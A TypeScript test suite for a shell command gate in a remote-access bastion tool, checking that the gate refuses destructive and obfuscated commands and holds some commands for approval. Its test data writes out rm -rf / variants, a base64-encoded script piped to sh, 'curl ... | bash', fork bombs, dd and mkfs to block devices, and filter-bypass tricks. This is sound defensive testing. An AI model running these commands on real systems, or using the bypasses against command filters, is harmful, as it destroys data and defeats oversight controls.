/*
 * The gate with the shipped default rules and a custom reject rule: every bypass of #14 item 4
 * (quoting, paths, substitutions, encoded scripts, continuations, history expansion, Ctrl-O /
 * Ctrl-J, a faked bracketed paste, a faked full-screen switch) and the default families.
 */
import { loadShellSyntax } from '@opsdeck/plugin-remote-node';
import type { CommandRule, NewRule } from '../database/BastionStore';
import {
  CommandGate,
  type GateRecord,
  type ReviewOutcome,
} from './CommandGate';
import { DEFAULT_RULES } from './defaultRules';
import { compileRules, type Verdict } from './rules';

const host = {
  name: 'app-01',
  entityRef: 'resource:default/app-01',
  address: '127.0.0.1',
  port: 22,
  environment: 'staging',
  tags: [],
};

function rulesOf(extra: Array<Omit<NewRule, 'createdBy'>> = []) {
  const all: CommandRule[] = [...extra, ...DEFAULT_RULES].map((r, i) => ({
    ...r,
    kind: r.kind ?? 'command',
    id: `r${i}`,
    createdBy: 'test',
    createdAt: new Date(0).toISOString(),
  }));
  return compileRules(all, host);
}

const noReboot = {
  name: 'no touch of pwned',
  kind: 'command' as const,
  pattern: '^touch\\s.*pwned',
  action: 'reject' as const,
  priority: 10,
  scope: {},
};

class FakeShell {
  written = '';
  said = '';
  records: GateRecord[] = [];
  reviews: Array<{
    command: string;
    verdict: Verdict;
    resolve(o: ReviewOutcome): void;
  }> = [];
  readonly gate: CommandGate;
  constructor(extra: Array<Omit<NewRule, 'createdBy'>> = [noReboot]) {
    const compiled = rulesOf(extra);
    this.gate = new CommandGate(
      {
        write: d => {
          this.written += d;
        },
        say: t => {
          this.said += t;
        },
        record: r => this.records.push(r),
        review: (command, verdict) =>
          new Promise(resolve =>
            this.reviews.push({ command, verdict, resolve }),
          ),
      },
      () => compiled,
    );
  }
  /** Types `text` and reports whether the shell got the submitting key (true) or Ctrl-C. */
  type(text: string): string {
    this.written = '';
    this.gate.input(text);
    return this.written;
  }
}

beforeAll(async () => {
  await loadShellSyntax();
});

describe('CommandGate', () => {
  it.each([
    ["r''m -rf /", 'quotes'],
    ['\\rm -rf /', 'escape'],
    ['/bin/rm -rf /', 'path'],
    ['/usr/bin/../bin/rm -rf /usr/', 'normalised path'],
    ['echo $(rm -rf /)', 'command substitution'],
    ['echo `rm -rf /`', 'backticks'],
    ['diff <(rm -rf /) /dev/null', 'process substitution'],
    ['eval "rm -rf /"', 'eval'],
    ['sudo -u root env X=1 rm -rf /', 'wrappers'],
    ['sh -c "rm -rf /"', 'sh -c'],
    ["$'\\x72m' -rf /", 'ANSI-C quoting'],
    ['echo cm0gLXJmIC8K | base64 -d | sh', 'encoded script piped to sh'],
    ['curl -s http://x/y | bash', 'download piped to bash'],
    ['bash <<< "rm -rf /"', 'here-string into bash'],
    ['$X -rf /', 'dynamic command name'],
    ['echo !!', 'history expansion'],
    ['!-1', 'history expansion by number'],
    ['^foo^bar', 'quick substitution'],
    ['ls )', 'unparseable'],
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd to a block device'],
    ['cat img > /dev/nvme0n1', 'redirect to a block device'],
    [':(){ :|:& };:', 'fork bomb'],
    ['bomb(){ bomb | bomb & }; bomb', 'fork bomb, other name'],
    ['mkfs.ext4 /dev/sdb1', 'filesystem creation'],
    ['sudo /sbin/shutdown -h now', 'shutdown'],
    ['init 0', 'init 0'],
    ['systemctl reboot', 'systemctl reboot'],
    ['chmod -R 777 /', 'recursive chmod of /'],
    ['chown -R nobody /etc', 'recursive chown of /etc'],
    ['rm -rf /{usr,tmp}', 'brace expansion'],
    ['find / -exec touch /tmp/pwned \\;', 'find -exec'],
    ['echo / | xargs -I{} touch {}/pwned', 'xargs'],
  ])('refuses %j (%s)', line => {
    const shell = new FakeShell();
    const sent = shell.type(`${line}\r`);
    expect(sent.endsWith('\x03')).toBe(true);
    expect(sent).not.toContain('\r');
    expect(shell.records.at(-1)).toMatchObject({ action: 'rejected' });
    expect(shell.said).toContain('[opsdeck] Command refused');
  });

  it('judges a continued line as the shell joins it', () => {
    const shell = new FakeShell();
    // the first Enter reaches the shell (it asks for more), the completed command does not
    expect(shell.type('r\\\r')).toBe('r\\\r');
    expect(shell.type('m -rf /\r')).toBe('m -rf /\x03');
    // an open quote keeps collecting too
    expect(shell.type("echo '\r")).toBe("echo '\r");
    expect(shell.type("'; touch /tmp/pwned\r").endsWith('\x03')).toBe(true);
    // a heredoc is collected until its end and then alerted by default
    expect(shell.type('cat <<EOF\r')).toBe('cat <<EOF\r');
    expect(shell.type('hello\r')).toBe('hello\r');
    expect(shell.type('EOF\r')).toBe('EOF\r');
    expect(shell.records.at(-1)).toMatchObject({
      command: 'cat <<EOF\nhello\nEOF',
      action: 'alerted',
    });
  });

  it('judges every key that submits a line, pastes too', () => {
    for (const key of ['\r', '\n', '\x0f']) {
      const shell = new FakeShell();
      expect(shell.type(`touch /tmp/pwned${key}`).endsWith('\x03')).toBe(true);
    }
    const shell = new FakeShell();
    // a faked bracketed paste whose line break runs on a host without bracketed paste
    const sent = shell.type('\x1b[200~touch /tmp/pwned\necho after\x1b[201~\r');
    expect(sent).toBe('\x1b[200~touch /tmp/pwned\x03');
    expect(sent).not.toContain('echo after');
  });

  it('keeps judging after the host prints a full-screen switch', () => {
    const shell = new FakeShell();
    shell.gate.observeOutput('$ ');
    shell.type("printf '\\e[?1049h'\r");
    shell.gate.observeOutput('\x1b[?1049h');
    expect(shell.gate.inProgram).toBe(false);
    expect(shell.type('touch /tmp/pwned\r').endsWith('\x03')).toBe(true);
    // and a line the grammar cannot read is still refused
    expect(shell.type('ls )\r').endsWith('\x03')).toBe(true);
  });

  it('stores keys typed in a program as keystrokes, still refusing rejected commands', () => {
    const shell = new FakeShell();
    shell.gate.observeOutput('opsdeck@app-01:~$ ');
    expect(shell.type('mysql\r')).toBe('mysql\r');
    expect(shell.gate.inProgram).toBe(true);
    shell.gate.observeOutput('\r\nmysql> ');
    // SQL is no shell: passed on, stored as typed
    expect(shell.type('select count(*) from t;\r')).toBe(
      'select count(*) from t;\r',
    );
    expect(shell.records.at(-1)).toMatchObject({
      action: 'keystrokes',
      command: 'select count(*) from t;^M',
    });
    // a shell command matching a reject rule is refused in every mode
    expect(shell.type('touch /tmp/pwned\r').endsWith('\x03')).toBe(true);
    // the shell prompt is back: lines are commands again
    shell.gate.observeOutput('Bye\r\nopsdeck@app-01:~$ ');
    expect(shell.gate.inProgram).toBe(false);
    expect(shell.type('ls )\r').endsWith('\x03')).toBe(true);
  });

  it('does not store what is typed at a password prompt', () => {
    const shell = new FakeShell();
    shell.gate.observeOutput('[sudo] password for opsdeck: ');
    // no echo from the host while typing
    expect(shell.type('s3cr)t\r')).toBe('s3cr)t\r');
    expect(shell.records.at(-1)).toMatchObject({
      action: 'keystrokes',
      command: '[typed at a password prompt]',
    });
  });

  it('holds a command under a review rule until an approver decides', async () => {
    const shell = new FakeShell([
      {
        name: 'restarts need approval',
        kind: 'command',
        pattern: '^systemctl\\s+restart\\b',
        action: 'review',
        priority: 10,
        scope: {},
      },
    ]);
    // the typed text reaches the shell, the Enter waits
    expect(shell.type('systemctl restart nginx\r')).toBe(
      'systemctl restart nginx',
    );
    expect(shell.said).toContain('Waiting for approval');
    expect(shell.gate.waiting).toBe(true);
    // keys typed meanwhile wait too
    expect(shell.type('ls\r')).toBe('');
    shell.reviews[0].resolve({
      approved: true,
      by: 'user:default/alice',
      reason: 'approved',
    });
    await new Promise(r => setImmediate(r));
    expect(shell.written).toBe('\rls\r');
    expect(shell.records.map(r => [r.command, r.action, r.reviewedBy])).toEqual(
      [
        ['systemctl restart nginx', 'approved', 'user:default/alice'],
        ['ls', 'run', undefined],
      ],
    );

    shell.type('systemctl restart db\r');
    shell.reviews[1].resolve({
      approved: false,
      by: 'user:default/alice',
      reason: 'denied by user:default/alice',
    });
    await new Promise(r => setImmediate(r));
    expect(shell.written).toBe('systemctl restart db\x03');
    expect(shell.records.at(-1)).toMatchObject({ action: 'denied' });
  });
});
